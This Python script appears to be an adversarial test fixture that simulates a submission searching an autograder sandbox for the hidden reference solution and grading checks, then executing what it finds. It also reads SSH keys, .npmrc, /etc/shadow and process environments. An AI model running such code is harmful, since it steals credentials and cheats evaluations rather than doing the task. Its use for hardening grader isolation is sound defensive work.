"""Looks everywhere for the reference solution and the hidden checks; runs and prints what it finds.

The test fills in @@REPO@@ with the repository's real path: this attacker knows the layout.
"""
import gc
import glob
import os
import sys

FOUND = {}
REPO = "@@REPO@@"
GUESSES = [
    f"{REPO}/solutions/attention/attention.py",
    f"{REPO}/autograder/assignments/attention/checks/part_a.py",
    f"{REPO}/autograder/assignments/attention/checks/support.py",
    f"{REPO}/autograder/assignments/attention/reference/pronoun_model.pt",
    "/autograder/source/solutions/attention/attention.py",
    "/root/.ssh/id_rsa",
    "/root/.npmrc",
    "/etc/shadow",
    "/proc/1/environ",
]


def _read(path):
    try:
        with open(path, "rb") as handle:
            FOUND[path] = handle.read(200_000).decode("utf-8", "replace")
    except OSError as error:
        print("no", path, type(error).__name__)


for _path in GUESSES:
    _read(_path)
_seen = 0
for _root, _dirs, _files in os.walk("/", onerror=lambda error: None):
    _seen += 1
    if _seen > 20_000:
        break
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "site-packages", "dist-packages", "share", "include") and not d.startswith("python3")]
    for _name in _files:
        if _name in ("attention.py", "part_a.py", "support.py", "pronoun_model.pt") and ("solutions" in _root or "checks" in _root or "reference" in _root):
            _read(os.path.join(_root, _name))
for _pattern in ("/*/solutions/attention/attention.py", "/*/*/solutions/attention/attention.py", "/work/*/autograder/assignments/*/checks/*.py", "/root/*/*.py"):
    for _path in glob.glob(_pattern, recursive=True)[:50]:
        if "site-packages" not in _path and "pyenv" not in _path:
            _read(_path)
for _pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    for _leaf in ("cwd/solutions/attention/attention.py", "root/work/main/solutions/attention/attention.py", "environ"):
        _read(f"/proc/{_pid}/{_leaf}")
for _name in list(sys.modules):
    if _name.startswith("autograder.assignments") or "reference" in _name and "torch" not in _name:
        FOUND["module " + _name] = repr(vars(sys.modules[_name]).keys())
try:
    import autograder.assignments.attention.checks.support as _support  # noqa: F401

    FOUND["import support"] = repr(_support.reference())
except Exception as error:  # noqa: BLE001
    print("no import", type(error).__name__)
for _obj in gc.get_objects()[:2_000_000]:
    if type(_obj) is str and "BEGIN SOLUTION" in _obj:
        FOUND["memory"] = _obj
        break

for _path, _text in FOUND.items():
    print("=== FOUND", _path)
    print(_text)
    if _text.lstrip().startswith(("import", "from", '"""', "#")):
        try:
            exec(compile(_text, "found", "exec"), globals())
        except BaseException as error:  # noqa: BLE001
            print("could not run", _path, error)
